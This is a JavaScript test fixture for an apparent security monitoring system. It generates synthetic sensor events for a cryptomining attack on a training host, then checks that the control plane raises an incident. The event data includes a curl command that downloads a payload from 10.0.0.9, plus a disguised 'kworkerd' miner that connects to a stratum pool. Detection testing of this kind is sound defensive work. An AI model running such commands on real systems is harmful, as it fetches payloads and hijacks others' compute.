// A real incident among the seeded events: an attack chain published as a sensor publishes it (the
// sensor's own EventPublisher), so the control plane's detections raise the alerts and its incident
// manager builds the incident, its tree and its timeline. A training job's python spawns a shell that
// runs a miner, a few hundred commands, then the miner renamed, which connects to its pool and opens
// the GPU.
import { randomUUID } from 'node:crypto';
import { pino } from 'pino';
import { Counters, EventPublisher } from '@vigil/sensor';
import { api, BENCH_PROC, waitFor } from './lib.mjs';

const SLURMSTEPD = { pid: 3_099_990, comm: 'slurmstepd', exe: '/usr/sbin/slurmstepd', argv: ['slurmstepd: [4242.0]'] };
const SYSTEMD = { pid: 1, comm: 'systemd', exe: '/usr/lib/systemd/systemd', argv: ['/sbin/init'] };
const PYTHON = { pid: 3_100_000, comm: 'python3', exe: '/usr/bin/python3.11', argv: ['python3', 'train.py'] };
const SHELL = { pid: 3_100_001, comm: 'bash', exe: '/usr/bin/bash', argv: ['bash', '-c', 'sh /tmp/.x/setup.sh'] };
/** Tried first under its own name, then renamed: two alerts whose nearest common process is the shell. */
const XMRIG = { pid: 3_100_899, comm: 'xmrig', exe: '/tmp/.x/xmrig', argv: ['xmrig', '--donate-level=1'] };
const MINER = {
  pid: 3_100_900,
  comm: 'kworkerd',
  exe: '/tmp/.x/kworkerd',
  argv: ['kworkerd', '-o', 'stratum+tcp://10.0.0.5:3333', '--donate-level=1'],
};

/** The events of the chain on `host`, starting `startMs` (epoch ms), a millisecond apart. */
export function chainEvents(host, startMs, commands = 300) {
  let t = BigInt(startMs) * 1_000_000n;
  const ts = () => {
    t += 1_000_000n;
    return t.toString();
  };
  const proc = (p, ancestry, startTs) => ({ ...BENCH_PROC, ...p, ppid: ancestry[0].pid, startTs, ancestry });
  const envelope = (kind, p) => ({ id: randomUUID(), v: 1, host, ts: ts(), kind, proc: p });
  const exec = (p, ancestry) => {
    const e = envelope('exec', null);
    e.proc = proc(p, ancestry, e.ts);
    e.exec = { filename: p.exe, argv: p.argv, argvTruncated: false, ret: 0 };
    return e;
  };
  const line = (p) => ({ pid: p.pid, comm: p.comm, exe: p.exe, argv: p.argv });
  const events = [];
  const pyUp = [line(SLURMSTEPD), line(SYSTEMD)];
  const shUp = [line(PYTHON), ...pyUp];
  const minerUp = [line(SHELL), ...shUp];
  events.push(exec(PYTHON, pyUp), exec(SHELL, shUp), exec(XMRIG, minerUp));
  for (let i = 0; i < commands; i++) {
    const cmd = [
      { comm: 'cat', exe: '/usr/bin/cat', argv: ['cat', `/proc/${i}/status`] },
      { comm: 'ls', exe: '/usr/bin/ls', argv: ['ls', '-la', `/data/shard-${i}`] },
      { comm: 'curl', exe: '/usr/bin/curl', argv: ['curl', '-so', `/tmp/.x/p${i}`, 'http://10.0.0.9/p'] },
    ][i % 3];
    const p = { pid: 3_100_002 + i, ...cmd };
    const e = exec(p, minerUp);
    events.push(e, { ...envelope('exit', e.proc), exit: { code: 0, signal: null } });
  }
  const miner = exec(MINER, minerUp);
  events.push(miner);
  const window = () => {
    const at = ts();
    return { count: 1, firstTs: at, lastTs: at };
  };
  events.push({
    ...envelope('connect', miner.proc),
    connect: { family: 'ipv4', daddr: '10.0.0.5', dport: 3333, ret: 0, ...window() },
  });
  for (let i = 0; i < 200; i++)
    events.push({
      ...envelope('gpu', miner.proc),
      gpu: {
        device: '/dev/nvidia0',
        driver: 'nvidia',
        major: 195,
        minor: 0,
        request: 3223342634,
        nr: 42,
        name: 'NV_ESC_RM_ALLOC',
        xfer: false,
        rmClass: null,
        rmClassName: null,
        rmControl: null,
        ...window(),
      },
    });
  return events;
}

/** Publishes the chain through `nats` and waits for the control plane's incident; its id. */
export async function raiseIncident(nats, base, host) {
  const publisher = new EventPublisher(nats.nc.jetstream(), {
    maxQueue: 10_000,
    log: pino({ level: 'warn' }),
    counters: new Counters(),
  });
  publisher.start();
  publisher.enqueue(chainEvents(host, Date.now() - 5 * 60_000));
  await publisher.stop(10_000);
  const incident = await waitFor(
    "the chain's incident",
    async () =>
      (await api(base, `/api/v1/incidents?host=${host}&limit=10`)).incidents.find((i) =>
        i.rules.includes('miner.exec'),
      ),
    120_000,
  );
  return incident.id;
}
